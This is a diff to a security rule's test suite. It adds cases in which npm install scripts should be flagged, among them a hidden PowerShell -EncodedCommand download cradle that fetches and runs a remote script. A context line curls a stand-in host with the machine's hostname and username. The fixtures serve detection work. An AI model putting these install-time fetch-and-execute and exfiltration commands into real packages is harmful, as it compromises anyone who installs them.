@@ -14,6 +14,16 @@ new RuleTester().run(rule, {
   ],
   invalid: [
     {
+      name: 'a PowerShell download cradle hidden with -EncodedCommand is decoded and critical',
+      manifest: { name: 'a', version: '1.0.0', scripts: { postinstall: 'powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBwAC4AcABzADEAJwApAA==' } },
+      errors: [{ severity: 'critical', file: 'package.json', message: /downloads and executes with PowerShell, hidden in a PowerShell -EncodedCommand/ }],
+    },
+    {
+      name: 'any command passed encoded is high: it cannot be read without decoding',
+      manifest: { name: 'a', version: '1.0.0', scripts: { install: 'pwsh -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A' } },
+      errors: [{ severity: 'high', file: 'package.json', message: /passed encoded \(-EncodedCommand\)/ }],
+    },
+    {
       name: 'a shell script run by the install script is read too',
       manifest: { name: 'a', version: '1.0.0', scripts: { preinstall: './setup.sh' } },
       files: { 'setup.sh': '#!/bin/sh\necho hi\ncurl -s "https://x.example.invalid/?h=$(hostname)&u=$(whoami)"\n' },
